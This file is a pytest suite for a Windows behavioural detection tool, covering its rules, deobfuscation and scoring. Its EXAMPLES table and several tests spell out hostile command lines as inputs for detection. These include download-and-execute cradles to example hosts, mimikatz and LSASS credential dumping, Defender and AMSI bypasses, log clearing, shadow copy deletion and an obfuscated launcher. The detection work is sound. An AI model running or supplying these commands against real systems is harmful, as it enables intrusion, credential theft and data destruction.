"""The detection rules and scoring of tools.behaviour, and the deobfuscation they run on
(tools.decode.unfold)."""

from __future__ import annotations

import base64

import pytest

from tools.attack import AttackKB
from tools.behaviour import (
    PROCESS_RULES,
    TEXT_RULES,
    ProcessView,
    RuleHit,
    assess,
    rule_catalogue,
    scan_process,
    scan_text,
    scan_text_deep,
)
from tools.decode import decode_char_codes, normalise_escapes, unfold


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


# At least one real-world-shaped command line per text rule; each must fire its rule.
EXAMPLES: dict[str, list[str]] = {
    "ps_download_execute": [
        "powershell -c \"IEX(New-Object Net.WebClient).downloadString('https://x.example/a.ps1')\"",
        "iwr http://10.0.0.5/p.ps1 -UseBasicParsing | iex",
    ],
    "wmic_process_create": ["wmic  process call create notepad.exe"],
    "script_from_user_path": [
        "cscript  //nologo C:\\Users\\SVC-SQ~1\\AppData\\Local\\Temp\\UbdXv.vbs"
    ],
    "ps_policy_bypass": ["powershell.exe -ExecutionPolicy Bypass -File run.ps1"],
    "sql_xp_cmdshell": ["EXEC master..xp_cmdshell 'whoami'"],
    "ps_web_download": [
        "(New-Object System.Net.WebClient).DownloadFile('http://a.example/x.exe','x.exe')"
    ],
    "cli_web_download": ["curl  --output hello.txt https://12.34.56.78/hack/evil.txt"],
    "certutil_download": ["certutil.exe -urlcache -split -f http://a.example/p.exe p.exe"],
    "bits_transfer": [
        "bitsadmin /transfer job /download /priority high http://a.example/x.exe C:\\x.exe",
        "Start-BitsTransfer -Source https://a.example/x -Destination C:\\Users\\bits.ps1",
    ],
    "netsh_portproxy": [
        "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
        "netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.1",
    ],
    "ps_encoded_command": [f"powershell.exe -NoP -enc {_enc('whoami')}"],
    "ps_hidden_window": [
        "powershell.exe -nop -w hidden -c calc",
        "powershell -WindowStyle Hidden x",
    ],
    "cmd_hidden_start": ['cmd.exe /c "start /b /min C:\\Users\\x\\Music\\random.vbs"'],
    "char_code_obfuscation": [
        "powershell -C \" -JOIN('73A69H88@32'.split('AH@')|%{[char]$_})\"",
        "[char]73+[char]69+[char]88+[char]32",
    ],
    "cmd_caret_obfuscation": ["c^m^d /c p^o^w^e^r^s^h^e^l^l -c x"],
    "embedded_pe_base64": [
        "cmd /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA>>%TEMP%\\a.b64"
    ],
    "echo_base64_staging": ["cmd /c echo " + "QUFB" * 20 + ">>%TEMP%\\feyQV.b64"],
    "certutil_decode": ["certutil  -decode file.base64 file-decoded.ext"],
    "rundll32_script": ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'],
    "rundll32_user_dll": ["rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,Start"],
    "regsvr32_remote": ["regsvr32 /s /n /u /i:http://a.example/file.sct scrobj.dll"],
    "mshta_remote": ["mshta.exe http://a.example/payload.hta", 'mshta vbscript:Execute("x")'],
    "msiexec_remote": ["msiexec /q /i http://a.example/p.msi"],
    "defender_tamper": [
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        "powershell Add-MpPreference -ExclusionPath C:\\Users",
        "Dism  /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart",
    ],
    "security_service_stop": ["sc  stop mpssvc", "net stop WinDefend"],
    "amsi_bypass": ["[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"],
    "event_log_clear": ["wevtutil cl Security", "Clear-EventLog -LogName Security"],
    "firewall_disable": ["netsh advfirewall set allprofiles state off"],
    "audit_policy_tamper": ["auditpol /clear /y"],
    "usn_journal_delete": ["fsutil usn deletejournal /d c:"],
    "reflective_load": ["[System.Reflection.Assembly]::Load($bytes)"],
    "browser_extension_load": [
        '"chrome.exe" --load-extension="C:\\Users\\u\\AppData\\Local\\Temp\\ext"'
    ],
    "lsass_dump_procdump": ["procdump64.exe -accepteula -ma lsass.exe lsass.dmp"],
    "lsass_dump_comsvcs": [
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
        "rundll32 comsvcs.dll #24 624 out.dmp full",
    ],
    "lsass_dump_generic": ["Out-Minidump -Process (Get-Process lsass)"],
    "mimikatz": ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
    "dcsync": ['mimikatz "lsadump::dcsync /domain:corp.local /user:krbtgt"'],
    "sam_hive_dump": ["reg save HKLM\\SAM C:\\temp\\sam.save"],
    "hive_file_copy": [
        "print /D:C:\\t\\s.txt \\\\localhost\\C$\\@GMT-1\\windows\\system32\\config\\SYSTEM"
    ],
    "ntds_dump": ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'],
    "packet_capture": ["pktmon  filter add -p 80", "netsh trace start capture=yes"],
    "schtasks_create": ['schtasks /create /tn upd /tr "C:\\x.exe" /sc onlogon'],
    "schtasks_system": [
        '"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /tn t /tr C:\\s.cmd /ru SYSTEM'
    ],
    "run_key": [
        'REG   ADD "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /V "x" /D "C:\\x.exe"'
    ],
    "service_create": ['sc.exe create evil binPath= "C:\\x.exe" start= auto'],
    "wmi_subscription": ["Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"],
    "account_create": ["net user backdoor P@ssw0rd! /add"],
    "admin_group_add": ["net localgroup administrators backdoor /add"],
    "printer_port_file": ["Add-PrinterPort -Name .\\NetshHelperBeacon.dll"],
    "rdp_hijack": ["tscon  2 /dest:rdp-tcp#5"],
    "psexec": ["PsExec.exe \\\\srv01 -s cmd.exe"],
    "impacket_exec": ["cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1614 2>&1"],
    "wmic_remote": ["wmic /node:10.0.0.5 process list"],
    "shadow_copy_delete": [
        "vssadmin.exe delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "bcdedit /set {default} recoveryenabled No",
    ],
    "cipher_wipe": ["cipher.exe  /w:C:"],
    "account_discovery": ['"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" useraccount get /ALL'],
    "owner_discovery": ["whoami /all"],
    "domain_trust_discovery": [
        "nltest /domain_trusts",
        "[System.DirectoryServices.ActiveDirectory.Forest]::GetCurrentForest().Sites",
    ],
    "system_discovery": [
        '"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" csproduct get uuid',
        "systeminfo",
    ],
    "network_config_discovery": ["ipconfig /all"],
    "process_discovery": ['cmd  /c "tasklist | findstr powershell"'],
    "cached_credential_discovery": ["cmdkey  /list"],
}

# Ordinary administration and user activity: no rule of severity medium or more may fire.
BENIGN = [
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\a\\q3.docx"',
    "notepad.exe C:\\Users\\bob\\Documents\\notes.txt",
    "powershell.exe Get-ChildItem C:\\Users -Recurse",
    "git clone https://github.com/org/repo.git",
    '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
    "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    "schtasks /query /fo LIST",
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "sc query WinDefend",
    # A module manifest lists cmdlet names; naming one is not running it.
    'CmdletsToExport = "Get-EventLog", "Clear-EventLog", "New-Service", "Start-BitsTransfer"',
]


@pytest.fixture(scope="module")
def attack() -> AttackKB:
    return AttackKB.load()


def fired(text: str) -> set[str]:
    return {hit.rule.id for hit in scan_text_deep(text, "t")[0]}


def test_every_rule_is_documented_and_maps_to_current_attack(attack: AttackKB) -> None:
    rules = rule_catalogue()
    assert len({r.id for r in rules}) == len(rules)
    for rule in rules:
        assert rule.techniques, rule.id
        for technique in rule.techniques:
            # The id is the current one (not revoked, not deprecated).
            assert attack.canonical_id(technique) == technique, (rule.id, technique)
        assert 0 < rule.weight < 1, rule.id
        assert rule.rationale, rule.id
        assert rule.title, rule.id


def test_every_text_rule_has_an_example() -> None:
    assert {r.id for r in TEXT_RULES} == set(EXAMPLES)


@pytest.mark.parametrize(
    ("rule_id", "text"), [(rule, text) for rule, texts in EXAMPLES.items() for text in texts]
)
def test_rule_fires_on_its_example(rule_id: str, text: str) -> None:
    hits = [h for h in scan_text(text, "cmd") if h.rule.id == rule_id]
    assert len(hits) == 1
    assert hits[0].source == "cmd"
    assert 0 < len(hits[0].excerpt) <= 160


@pytest.mark.parametrize("text", BENIGN)
def test_benign_commands_raise_nothing_serious(text: str) -> None:
    serious = {
        h.rule.id
        for h in scan_text_deep(text, "t")[0]
        if h.rule.severity in ("medium", "high", "critical")
    }
    assert serious == set()


def test_rules_are_case_insensitive_and_see_through_quotes() -> None:
    assert "shadow_copy_delete" in fired(
        '"C:\\WINDOWS\\SYSTEM32\\VSSADMIN.EXE" DELETE SHADOWS /ALL'
    )
    assert "schtasks_create" in fired("SCHTASKS.EXE /CREATE /TN x /TR y")


def test_encoded_powershell_is_decoded_and_its_payload_scanned() -> None:
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
    hits, layers = scan_text_deep(f"powershell -nop -w hidden -enc {_enc(payload)}", "cmd")
    assert [layer.method for layer in layers] == ["powershell_encoded_command"]
    assert layers[0].text == payload
    by_rule = {h.rule.id: h.source for h in hits}
    assert by_rule["ps_encoded_command"] == "cmd"
    assert by_rule["ps_hidden_window"] == "cmd"
    assert by_rule["ps_download_execute"] == "cmd (powershell_encoded_command)"


def test_char_codes_are_decoded() -> None:
    codes = ",".join(str(ord(c)) for c in "IEX (New-Object Net.WebClient)")
    assert decode_char_codes(f"-join ('{codes}'.split(',') | %{{[char]$_}})") == (
        "-join ('IEX (New-Object Net.WebClient)'.split(',') | %{[char]$_})"
    )
    assert decode_char_codes("[char]73+[char]69+[char]88+[char]32") == "IEX "
    # Version numbers, addresses and dates are not text.
    assert decode_char_codes("10.0.19041.746 10.23.123.11 2021-04-21T13:30:00") is None
    assert decode_char_codes("1,2,3,4,5,6,7,8,9,10") is None


def test_escapes_and_concatenation_are_undone() -> None:
    assert normalise_escapes("'Am'+'siUt'+'ils'") == "'AmsiUtils'"
    assert normalise_escapes("p^o^w^e^r^s^h^e^l^l") == "powershell"
    assert normalise_escapes("I`E`X") == "IEX"
    assert normalise_escapes("plain text") is None
    assert "amsi_bypass" in fired(
        "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils')"
    )


def test_unfold_stops_on_plain_text_and_bounds_its_work() -> None:
    assert unfold("notepad.exe C:\\notes.txt") == []
    nested = base64.b64encode(base64.b64encode(b"wevtutil cl Security")).decode()
    layers = unfold(nested)
    assert [layer.method for layer in layers] == ["base64", "base64 > base64"]
    assert layers[-1].text == "wevtutil cl Security"
    assert "event_log_clear" in fired(nested)


def test_crackmapexec_payload_from_the_evtx_dataset_is_decoded() -> None:
    # The shape of the CrackMapExec launcher (T1027 folder): codes split by random letters.
    script = "[Net.ServicePointManager]::x\nIEX (New-Object Net.WebClient).DownloadString('https://10.23.123.11:443/Invoke-Mimikatz.ps1')"
    seps = "@AGkTfSH,"
    codes = "".join(f"{ord(c)}{seps[i % len(seps)]}" for i, c in enumerate(script))[:-1]
    line = (
        f"powershell.exe -exec bypass -noni -nop -w 1 -C \" -JOIN('{codes}'.sPlIT('{seps}')"
        "|%{([iNt] $_ -AS [char])})| .( $ENv:comsPec[4,26,25]-JOIn'')\""
    )
    hits, layers = scan_text_deep(line, "cmd")
    assert layers[0].method == "char_codes"
    assert "Invoke-Mimikatz.ps1" in layers[0].text
    assert {"char_code_obfuscation", "ps_hidden_window", "ps_download_execute", "mimikatz"} <= {
        h.rule.id for h in hits
    }


# -- process and file rules -------------------------------------------------------------------


def process_rules(view: ProcessView) -> set[str]:
    return {hit.rule.id for hit in scan_process(view, "p")}


def test_parent_child_rules() -> None:
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    assert process_rules(ProcessView("C:\\Windows\\System32\\cmd.exe", parent_image=office)) == {
        "office_spawns_shell"
    }
    assert process_rules(
        ProcessView(
            "C:\\Windows\\System32\\cmd.exe",
            parent_image="C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe",
        )
    ) == {"sqlserver_spawns_shell"}
    assert process_rules(
        ProcessView(
            "C:\\Windows\\System32\\cmd.exe",
            parent_image="c:\\windows\\system32\\inetsrv\\w3wp.exe",
        )
    ) == {"webserver_spawns_shell"}
    assert process_rules(
        ProcessView(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            parent_image="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        )
    ) == {"wmi_spawns_shell"}
    # Office opening a document, and explorer starting cmd, are ordinary.
    assert process_rules(ProcessView(office, parent_image="C:\\Windows\\explorer.exe")) == set()
    assert (
        process_rules(
            ProcessView("C:\\Windows\\System32\\cmd.exe", parent_image="C:\\Windows\\explorer.exe")
        )
        == set()
    )


def test_location_and_masquerading_rules() -> None:
    assert process_rules(ProcessView("C:\\Windows\\System32\\svchost.exe")) == set()
    assert process_rules(ProcessView("\\??\\C:\\Windows\\system32\\conhost.exe")) == set()
    assert process_rules(ProcessView("%SystemRoot%\\System32\\svchost.exe")) == set()
    assert process_rules(ProcessView("C:\\Windows\\explorer.exe")) == set()
    assert process_rules(ProcessView("C:\\Users\\Public\\svchost.exe")) == {
        "temp_execution",
        "masquerade_location",
    }
    assert process_rules(ProcessView("C:\\Windows\\svchost.exe")) == {"masquerade_location"}
    assert process_rules(ProcessView("C:\\ProgramData\\scvhost.exe")) == {"masquerade_lookalike"}
    assert process_rules(ProcessView("C:\\Windows\\Temp\\TVupu.exe")) == {"temp_execution"}
    assert process_rules(ProcessView("C:\\Users\\a\\AppData\\Roaming\\sihostt.exe")) == {
        "user_folder_execution",
        "masquerade_lookalike",
    }
    # A bare name says nothing about where it runs.
    assert process_rules(ProcessView("svchost.exe")) == set()
    # Data files in a user folder are not programs.
    assert process_rules(ProcessView("C:\\Users\\a\\Downloads\\report.pdf")) == set()


def test_deceptive_names_and_renamed_tools() -> None:
    assert process_rules(ProcessView("D:\\share\\invoice.pdf.exe")) == {"double_extension"}
    assert process_rules(ProcessView("D:\\share\\Ann\u202egepj.exe")) == {"rtlo_name"}
    assert process_rules(
        ProcessView("D:\\tools\\renamed-wscript.exe", original_file_name="wscript.exe")
    ) == {"renamed_binary"}
    assert (
        process_rules(
            ProcessView("C:\\Windows\\System32\\wscript.exe", original_file_name="wscript.exe")
        )
        == set()
    )


# -- scoring ----------------------------------------------------------------------------------


def _hits(*rule_ids: str) -> list[RuleHit]:
    rules = {r.id: r for r in (*TEXT_RULES, *PROCESS_RULES.values())}
    return [RuleHit(rules[i], "s", "x") for i in rule_ids]


def test_assess_without_hits() -> None:
    quiet = assess([], behaviour=True)
    assert (quiet.severity, quiet.confidence, quiet.escalated) == ("informational", 0.4, False)
    assert assess([], behaviour=False).confidence == 0.2


def test_assess_takes_the_worst_rule_and_combines_weights() -> None:
    one = assess(_hits("schtasks_create"), behaviour=True)
    assert (one.severity, one.confidence) == ("medium", 0.6)
    # Two rules: 1 - (1 - 0.6)(1 - 0.8) = 0.92; the same rule twice counts once.
    two = assess(_hits("schtasks_create", "certutil_download", "certutil_download"), behaviour=True)
    assert (two.severity, two.confidence) == ("high", 0.92)
    assert two.stages == ("command_and_control", "persistence")
    assert not two.escalated


def test_assess_escalates_activity_spanning_three_phases() -> None:
    spread = assess(_hits("certutil_download", "schtasks_create", "psexec"), behaviour=True)
    assert spread.escalated
    assert spread.severity == "critical"
    assert spread.phases == ("delivery", "foothold", "lateral movement")
    # A hidden, encoded download cradle is one phase (delivery) however many stages it has.
    cradle = assess(
        _hits("ps_encoded_command", "ps_hidden_window", "ps_download_execute", "ps_web_download"),
        behaviour=True,
    )
    assert (cradle.severity, cradle.escalated) == ("high", False)
    # Discovery and low rules do not count towards breadth.
    narrow = assess(
        _hits("certutil_download", "owner_discovery", "ps_policy_bypass"), behaviour=True
    )
    assert not narrow.escalated
    assert narrow.severity == "high"
    # Confidence is capped: rules agreeing are still rules.
    many = assess(
        _hits("mimikatz", "dcsync", "lsass_dump_comsvcs", "shadow_copy_delete"), behaviour=True
    )
    assert many.confidence == 0.95
    assert many.severity == "critical"
